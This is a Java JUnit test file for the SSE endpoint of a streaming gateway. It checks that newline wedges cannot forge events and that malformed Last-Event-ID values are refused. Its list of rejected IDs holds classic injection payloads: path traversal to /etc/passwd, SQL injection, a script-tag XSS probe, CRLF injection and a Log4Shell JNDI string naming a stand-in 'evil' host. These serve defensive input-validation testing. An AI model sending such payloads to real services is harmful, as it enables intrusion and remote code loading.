package dev.godwit.gateway.badinput;

import static org.assertj.core.api.Assertions.assertThat;

import dev.godwit.gateway.http.RawHttp;
import dev.godwit.gateway.http.SseReader;
import dev.godwit.gateway.http.TestPort;
import dev.godwit.protocol.Position;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that would forge events, and positions that are none. */
class SseTest {

    private static final String STREAM = "/v1/stream";

    @RegisterExtension
    static final CanaryPort canary = new CanaryPort(options -> options);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\r",
                "\n",
                "\r\n",
                "\n\n",
                "\r\r",
                "\r\n\r\n",
                "\0",
                "\n\0\n",
                "\u2028",
                "\u0085",
                "\u000b",
                "\ufeff",
                ":",
                " "
            })
    void breakInEventOrData_forgesNothing(String wedge) throws Exception {
        String forged =
                wedge + "id: forged" + wedge + "retry: 1" + wedge + "event: forged" + wedge + "data: forged" + wedge;
        Position position = new Position(1, 7, 1);
        try (RawHttp http = canary.port().get("break", STREAM)) {
            canary.port().sessions().of("break").out(out -> {
                out.message(TestPort.frame("break", 7, "a" + forged, forged), () -> position);
                out.message(TestPort.frame("break", 8, "after", "good"), () -> new Position(1, 8, 1));
            });
            SseReader reader = new SseReader(http::read);
            reader.next("heartbeat");
            SseReader.Event event = reader.next();
            assertThat(event.name()).startsWith("a").isNotEqualTo("forged");
            assertThat(event.lastId()).isEqualTo(position.token());
            assertThat(event.data()).isEqualTo(forged.replace("\r\n", "\n").replace('\r', '\n'));
            assertThat(reader.next().name()).isEqualTo("after");
            assertThat(reader.retry()).isGreaterThan(1);
        }
    }

    @Test
    void lineOfOneMebibyte_isOneEvent() throws Exception {
        String line = "x".repeat(1 << 20);
        try (RawHttp http = canary.port().get("mebi", STREAM)) {
            canary.port()
                    .sessions()
                    .of("mebi")
                    .out(out -> out.message(TestPort.frame("mebi", 1, "e", line), () -> new Position(1, 1, 1)));
            assertThat(new SseReader(http::read).next("e").data()).isEqualTo(line);
        }
    }

    @ParameterizedTest
    @MethodSource("noPositions")
    void lastEventIdThatIsNone_isRefused(String id) throws Exception {
        int sessions = canary.port().sessions().count();
        double counted = canary.port().count("godwit.bad.requests", "code", "position_malformed");
        try (RawHttp http = canary.port().get("pos", STREAM, "Last-Event-ID: " + id)) {
            assertThat(http.status()).isEqualTo(400);
            assertThat(new JsonObject(http.body()).getString("field")).isEqualTo("Last-Event-ID");
        }
        assertThat(canary.port().count("godwit.bad.requests", "code", "position_malformed"))
                .isEqualTo(counted + 1);
        assertThat(canary.port().sessions().count()).isEqualTo(sessions);
    }

    static Stream<String> noPositions() {
        String good = new Position(1, 5, 5).token();
        byte[] bytes = Base64.getUrlDecoder().decode(good);
        return Stream.of(
                "-1",
                "0",
                "1-5",
                "-1-5",
                "99999999999999999999",
                "null",
                "undefined",
                "NaN",
                "*",
                "%",
                "%00",
                "%0d%0a",
                "../../etc/passwd",
                "' OR 1=1 --",
                "{1.0}:wm",
                "\"; DROP TABLE",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil/x}",
                "\u00e4\u20ac",
                "x".repeat(7_000),
                good + good,
                good + "=",
                good.substring(1),
                good.substring(0, good.length() - 1),
                changed(bytes, 0, 0x7f),
                changed(bytes, 0, 0));
    }

    private static String changed(byte[] bytes, int at, int value) {
        byte[] other = bytes.clone();
        other[at] = (byte) value;
        return Base64.getUrlEncoder().withoutPadding().encodeToString(other);
    }

    @Test
    void lastEventIdOf64Kilobytes_isRefusedBeforeItIsRead() throws Exception {
        try (RawHttp http = RawHttp.connect(canary.number())) {
            String id = "A".repeat(64 * 1024);
            http.raw("GET /v1/stream HTTP/1.1\r\nHost: x\r\n" + canary.bearer("long") + "\r\nLast-Event-ID: " + id
                    + "\r\n\r\n");
            String answer = new String(http.stream().readAllBytes(), StandardCharsets.US_ASCII);
            assertThat(answer).contains(" 431 ").contains("headers_too_large");
        }
    }

    @Test
    void emptyLastEventId_isNone_andTwoAreRefused() throws Exception {
        String id = new Position(1, 5, 5).token();
        try (RawHttp http = canary.port().get("empty", STREAM, "Last-Event-ID:")) {
            assertThat(http.status()).isEqualTo(200);
            assertThat(canary.port().sessions().of("empty").request().position())
                    .isEmpty();
        }
        try (RawHttp http = canary.port().get("twice", STREAM, "Last-Event-ID: " + id, "last-event-id: " + id)) {
            assertThat(http.status()).isEqualTo(400);
        }
        try (RawHttp http = canary.port().get("twice", STREAM + "?since=" + id + "&since=" + id)) {
            assertThat(http.status()).isEqualTo(400);
        }
    }

    @Test
    void headerAndQueryThatDisagree_areTheHeader() throws Exception {
        Position older = new Position(1, 5, 5);
        Position newer = new Position(1, 9, 9);
        String query = STREAM + "?since=" + newer.token();
        try (RawHttp http = canary.port().get("both", query, "Last-Event-ID: " + older.token())) {
            assertThat(http.status()).isEqualTo(200);
            assertThat(canary.port().sessions().of("both").request().position()).contains(older);
        }
        try (RawHttp http = canary.port().get("both", query, "Last-Event-ID: x")) {
            assertThat(http.status()).isEqualTo(400);
        }
    }
}
